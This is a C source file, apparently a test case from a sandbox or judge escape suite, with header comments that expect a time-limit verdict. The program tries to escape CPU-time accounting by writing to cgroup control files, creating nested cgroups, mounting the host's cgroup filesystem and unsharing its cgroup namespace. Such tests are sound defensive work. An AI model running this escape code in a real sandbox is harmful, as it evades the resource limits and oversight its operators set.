// claim: it moves itself to another cgroup, or changes its own, so that its time is not counted
// layer: cpu_time cgroup files
// expect: TLE
// cause: cpu-time
// limits: cpu_time=0.5 wall_time=10
// without: cpu_time

#include "attack.h"
#include <dirent.h>
#include <sys/mount.h>

static void put(const char *folder, const char *name, const char *text)
{
	char path[512];
	int fd;

	snprintf(path, sizeof path, "%s/%s", folder, name);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && write(fd, text, strlen(text)) > 0)
		escaped("wrote %s to %s", text, path);
	if (fd >= 0)
		close(fd);
}

static void move(const char *folder)
{
	char path[512];

	for (int i = 0; i < 2; i++) {
		put(folder, "cgroup.procs", "0");
		put(folder, "tasks", "0");
		put(folder, "cpu.max", "max");
		put(folder, "cpu.cfs_quota_us", "-1");
		put(folder, "cpuacct.usage", "0");
		put(folder, "memory.max", "max");
		put(folder, "memory.peak", "0");
		put(folder, "memory.max_usage_in_bytes", "0");
		put(folder, "pids.max", "max");
		put(folder, "cgroup.freeze", "0");
		snprintf(path, sizeof path, "%s/free", folder);
		if (mkdir(path, 0755) == 0)
			escaped("made the cgroup %s", path);
		folder = path;
	}
}

int main(void)
{
	const char *const places[] = { "/sys/fs/cgroup", "/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpuacct",
				       "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified" };
	char line[1024], here[512];
	FILE *mounts = fopen("/proc/self/mounts", "r");

	for (size_t i = 0; i < sizeof places / sizeof *places; i++)
		move(places[i]);
	while (mounts && fgets(line, sizeof line, mounts))
		if (strstr(line, " cgroup") && sscanf(line, "%*s %511s", here) == 1)
			move(here);
	mkdir("/tmp/cgroup", 0755);
	if (mount("none", "/tmp/cgroup", "cgroup2", 0, NULL) == 0 ||
	    mount("none", "/tmp/cgroup", "cgroup", 0, "cpu,cpuacct") == 0) {
		escaped("mounted the host's cgroups");
		move("/tmp/cgroup");
	}
	unshare(CLONE_NEWCGROUP);
	burn(1.5);
	escaped("used 1.5 s of CPU time under a limit of 0.5 s");
	return contained();
}
